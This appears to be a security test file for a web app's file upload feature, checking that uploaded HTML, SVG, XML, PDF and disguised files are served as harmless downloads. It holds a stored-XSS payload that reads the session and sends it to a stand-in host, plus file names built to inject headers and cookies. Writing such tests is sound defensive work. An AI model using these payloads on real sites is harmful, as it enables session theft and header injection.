import { expect } from 'vitest'
import { documentFilePath, templateFilePath } from '#rules/documents/file-paths.ts'
import { test } from '../harness/files-test.ts'
import { sendFile, uploaded } from '../harness/test-files.ts'
import { expectDone } from '../matchers/expect-write.ts'

const script =
  '<script>fetch("/api/session").then(r=>r.text()).then(t=>location="//x.test/"+t)</script>'
const hostile: readonly (readonly [name: string, type: string, bytes: string])[] = [
  ['page.html', 'text/html', `<!doctype html>${script}`],
  ['page.htm', 'text/html; charset=utf-8', `<html>${script}</html>`],
  [
    'page.xhtml',
    'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  ],
  [
    'image.svg',
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  ],
  [
    'data.xml',
    'application/xml',
    `<?xml-stylesheet href="x.xsl" type="text/xsl"?><x>${script}</x>`,
  ],
  ['code.js', 'text/javascript', 'alert(1)'],
  ['code.mjs', 'application/javascript', 'alert(1)'],
  ['policy.pdf', 'application/pdf', `%PDF-1.4\n${script}`],
  ['policy.pdf', 'text/html', `<html>${script}`],
  ['notes.txt', 'text/html', `<html>${script}`],
  ['photo.png', 'text/html', `\u0089PNG\r\n\u001A\n<html>${script}`],
  ['noname', 'text/html', `<html>${script}`],
  ['mail.eml', 'message/rfc822', `Content-Type: text/html\r\n\r\n${script}`],
  ['page.mht', 'multipart/related', script],
  ['x.html.pdf', 'application/pdf', script],
  ['x".html', 'application/octet-stream', script],
  ['ｘ.ｈｔｍｌ', 'application/octet-stream', script],
]

const runnable = /html|xml|svg|javascript|ecmascript|multipart|message/i

const shownTypes = /^(?:application\/pdf|image\/(?:gif|jpeg|png|webp)|text\/plain)$/

const isHarmless = (
  what: string,
  headers: Readonly<Record<string, string | string[] | undefined>>,
  isShown = false,
) => {
  const policy = String(headers['content-security-policy'])
  expect([what, headers['content-disposition']]).toEqual([
    what,
    expect.stringMatching(isShown ? /^inline(;|$)/ : /^attachment(;|$)/),
  ])
  expect([what, policy]).toEqual([what, expect.stringMatching(/^sandbox;.*default-src 'none'/)])
  expect([what, headers['x-content-type-options']]).toEqual([what, 'nosniff'])
  expect([what, headers['cross-origin-resource-policy']]).toEqual([what, 'same-origin'])
  expect([what, runnable.test(String(headers['content-type']))]).toEqual([what, false])
}

test('12 Stored XSS by uploaded file: whatever was uploaded is saved or shown by the browser, and never runs here', async ({
  server,
  made,
}) => {
  let stored = 0
  for (const [name, type, bytes] of hostile) {
    const sent = await sendFile(server, 'K+', { name, type, bytes: Buffer.from(bytes, 'latin1') })
    if (sent.status !== 201) {
      expect([name, [400, 422].includes(sent.status)]).toEqual([name, true])
      continue
    }
    stored += 1
    const asked = { upload_id: sent.body.data.upload_id, project_id: made.project }
    const { updates } = await expectDone(server, 'K+', 'Document:Upload', asked)
    const path = documentFilePath(made.project, updates.document_id)
    for (const [method, more] of [
      ['GET', {}],
      ['HEAD', {}],
      ['GET', { range: 'bytes=0-9' }],
      ['GET', { range: 'bytes=99999999-' }],
      ['GET', { accept: 'text/html' }],
    ] as const) {
      const { headers } = await server.fetch(`${path}?apiDb=rds`, {
        method,
        headers: { ...server.as('C+'), ...more },
      })
      isHarmless(`${name} ${method} ${JSON.stringify(more)}`, headers)
    }
    const { headers } = await server.fetch(`${path}?apiDb=rds&inline=1`, {
      headers: { ...server.as('C+'), accept: 'text/html' },
    })
    isHarmless(`${name} inline`, headers, shownTypes.test(String(headers['content-type'])))
  }
  expect(stored).toBeGreaterThan(5)
})

test('12 Stored XSS by uploaded file: templates are sent the same way', async ({
  server,
  made,
}) => {
  const upload_id = await uploaded(server, 'ADM', {
    name: 'page',
    type: 'text/html; x=1',
    bytes: script,
  })
  const asked = { upload_id, module_id: made.module }
  const { updates } = await expectDone(server, 'ADM', 'Template:Upload', asked)
  const { headers } = await server.fetch(
    `${templateFilePath(updates.template_id ?? updates.id)}?apiDb=rds`,
    {
      headers: server.as('C+'),
    },
  )
  isHarmless('a template', headers)
})

test('12 Stored XSS by uploaded file: a file name can neither add nor end a header', async ({
  server,
  made,
}) => {
  for (const name of [
    'a"; filename=x.dat',
    'a%0d%0aSet-Cookie: x=1.pdf',
    'a\\".dat',
    "a';b.dat",
    "a*=UTF-8''x.dat",
  ]) {
    const sent = await sendFile(server, 'K+', { name })
    if (sent.status !== 201) continue
    const asked = { upload_id: sent.body.data.upload_id, project_id: made.project }
    const { updates } = await expectDone(server, 'K+', 'Document:Upload', asked)
    const { headers } = await server.fetch(
      `${documentFilePath(made.project, updates.document_id)}?apiDb=rds`,
      {
        headers: server.as('C+'),
      },
    )
    isHarmless(name, headers)
    expect(headers['set-cookie']).toBeUndefined()
    expect(String(headers['content-disposition']).match(/filename="[^"\\]*"/g)).toHaveLength(1)
  }
  for (const name of ['a\r\nSet-Cookie: x=1.pdf', 'a\0.pdf', 'a\u2028.pdf'])
    expect([name, (await sendFile(server, 'K+', { name })).status]).toEqual([name, 400])
})
